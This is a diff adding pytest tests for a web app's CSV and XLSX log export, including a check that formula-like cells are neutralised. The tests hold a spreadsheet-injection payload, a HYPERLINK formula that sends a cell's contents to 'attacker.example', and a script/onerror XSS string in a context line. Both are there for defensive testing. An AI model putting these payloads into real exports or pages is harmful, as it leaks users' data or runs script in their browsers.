@@ -137,6 +137,40 @@ def test_xlsx_export(viewer_client, live_page):
     assert dict(zip(header, row, strict=True))["Removed posts"] == "gone"
 
 
+def export_rows(client, export_format) -> list[dict]:
+    response = client.get(LOG_URL, {"export": export_format})
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content)
+    if export_format == "csv":
+        return list(csv.DictReader(io.StringIO(content.decode())))
+    header, *rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_the_export_lists_the_updates_of_a_deleted_page(
+    viewer_client, make_live_page, live_page, export_format
+):
+    gone = make_live_page(title="Gone", channel_id="gone")
+    log_entry("gone", page=gone)
+    log_entry(page=live_page)
+    gone.delete()
+    rows = {row["Channel"]: row for row in export_rows(viewer_client, export_format)}
+    assert rows["gone"]["Page"] in ("", None) and rows["gone"]["Page ID"] in ("", None)
+    assert rows["match-day.1"]["Page"] == live_page.title
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_start_like_a_formula_are_text(viewer_client, live_page, start):
+    formula = f'{start}HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    type(live_page).objects.filter(pk=live_page.pk).update(title=formula)
+    entry = log_entry(page=live_page)
+    entry.mark(Status.FAILED, error=formula)
+    [row] = export_rows(viewer_client, "csv")
+    assert row["Page"] == row["Error"] == "'" + formula
+    assert row["Channel"] == "match-day.1" and row["Sequence number"] == "1"  # the rest as is
+
+
 def test_the_entry_page_shows_the_payload_escaped_with_its_history(viewer_client, live_page):
     hostile = '<script>window.pwned = 1</script><img src=x onerror="alert(1)">'
     entry = log_entry(
